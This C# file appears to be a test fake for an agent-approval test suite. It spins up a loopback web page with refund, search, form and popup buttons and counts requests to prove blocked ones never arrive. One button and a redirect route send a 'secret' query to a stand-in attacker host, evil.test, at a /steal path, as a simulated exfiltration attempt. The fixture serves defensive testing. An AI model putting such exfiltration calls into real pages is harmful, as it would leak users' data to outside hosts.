using System.Collections.Concurrent;
using System.Net;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace ActionAgent.Approvals.Tests.Fakes;

/// <summary>
/// A tiny site on 127.0.0.1 whose page makes requests on button clicks (fetch POSTs, a cross-domain fetch, a form post,
/// a popup). It counts every request it receives by "METHOD path", so tests can prove a request never arrived.
/// </summary>
public sealed class TinySite : IAsyncDisposable
{
    private readonly WebApplication _app;

    private TinySite(WebApplication app, int port)
    {
        _app = app;
        Port = port;
    }

    public int Port { get; }

    public string Url => $"http://127.0.0.1:{Port}/";

    public ConcurrentDictionary<string, int> Hits { get; } = new();

    public int HitsOf(string methodAndPath) => Hits.GetValueOrDefault(methodAndPath);

    public static async Task<TinySite> StartAsync()
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.UseKestrel(k => k.Listen(IPAddress.Loopback, 0));
        var app = builder.Build();
        TinySite? site = null;
        app.Use(async (c, next) =>
        {
            site!.Hits.AddOrUpdate($"{c.Request.Method} {c.Request.Path}", 1, (_, n) => n + 1);
            c.Response.Headers["Access-Control-Allow-Origin"] = "*";
            await next();
        });
        app.MapGet("/", (HttpContext c) => Results.Content(Page(c.Request.Host.Port ?? 0), "text/html"));
        app.MapPost("/api/refund", () => Results.Text("ok"));
        app.MapPost("/api/search", () => Results.Text("found"));
        app.MapPost("/form", () => Results.Content("<html><body><h1 id=done>Refund filed</h1></body></html>", "text/html"));
        app.MapGet("/steal", () => Results.Text("stolen"));
        app.MapGet("/popup", () => Results.Content("<html><body>popup</body></html>", "text/html"));
        app.MapGet("/go-evil", (HttpContext c) => Results.Redirect($"http://evil.test:{c.Request.Host.Port}/steal?via=redirect"));
        await app.StartAsync();
        var address = app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.First();
        site = new TinySite(app, new Uri(address).Port);
        return site;
    }

    private static string Page(int port) => $$"""
        <html><head><title>ready</title></head><body>
        <button id="refund" onclick="fetch('/api/refund',{method:'POST',body:'amount=42'}).then(r=>r.text()).then(t=>document.title='posted:'+t).catch(()=>document.title='failed')">Refund</button>
        <button id="search" onclick="fetch('/api/search',{method:'POST',body:'q=ada'}).then(r=>r.text()).then(t=>document.title='search:'+t).catch(()=>document.title='failed')">Search</button>
        <button id="evil" onclick="fetch('http://evil.test:{{port}}/steal?d=secret').then(()=>document.title='evil-ok').catch(()=>document.title='evil-blocked')">Evil</button>
        <button id="popup" onclick="window.open('http://evil.test:{{port}}/popup')">Popup</button>
        <form method="post" action="/form"><input name="amount" value="42"><button id="submit" type="submit">Submit refund</button></form>
        </body></html>
        """;

    public async ValueTask DisposeAsync()
    {
        await _app.StopAsync();
        await _app.DisposeAsync();
    }
}
